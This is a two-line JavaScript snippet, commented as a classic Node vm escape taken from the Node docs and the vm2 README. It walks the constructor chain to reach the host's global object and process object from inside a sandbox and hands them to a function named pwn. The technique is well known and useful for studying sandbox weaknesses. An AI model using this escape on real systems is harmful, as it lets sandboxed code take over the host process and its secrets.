// classic Node vm escape (Node docs; vm2 README)
pwn(this.constructor.constructor('return this')()); pwn(this.constructor.constructor('return process')());
